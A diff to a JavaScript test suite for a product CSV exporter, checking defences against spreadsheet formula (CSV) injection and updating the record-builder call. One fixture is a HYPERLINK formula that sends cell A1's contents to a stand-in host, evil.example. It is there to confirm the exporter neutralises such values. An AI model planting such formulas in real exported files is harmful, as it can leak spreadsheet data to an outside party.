@@ -171,7 +171,7 @@ describe('productsCsv', () => {
 describe('productsCsv against spreadsheet formulas (CSV injection)', () => {
   const hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Lê Giang Ma")';
   const records = ['=1+1', '+84 912 345 678', '-2', '@SUM(A1)', '\tx', '\rx', hostile].map((name, index) =>
-    productRecord({ ...product, id: `p${index}`, data: { ...product.data, name } }, 'HTX', url),
+    productRecord({ ...product, id: `p${index}`, data: { ...product.data, name } }, producer, places, context),
   );
   const csv = productsCsv(records);
   const names = csv
@@ -182,15 +182,17 @@ describe('productsCsv against spreadsheet formulas (CSV injection)', () => {
     .map((row) => row.split(',')[1]);
 
   it('neutralises every cell that starts with =, +, -, @, a tab or a carriage return', () => {
-    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
+    // (A CR that ends a record, after an empty last cell, is the record delimiter, not a cell's start.)
+    expect(csv).not.toMatch(/(^|,)"?(?:[=+\-@\t]|\r(?!\n))/m);
     expect(names.slice(0, 4)).toEqual(["'=1+1", "'+84 912 345 678", "'-2", "'@SUM(A1)"]);
     expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1`);
   });
   it('leaves numbers and ordinary text alone', () => {
-    const [, row] = productsCsv([productRecord(product, 'HTX Nuôi ong', url)])
+    const [, row] = productsCsv([productRecord(product, producer, places, context)])
       .slice(1)
       .trimEnd()
       .split('\r\n');
     expect(row).toMatch(/^mat-ong,"Mật ong ""rừng"", Tam Đường",food,4,/);
+    expect(row).toContain(',0213 3875 123,');
   });
 });
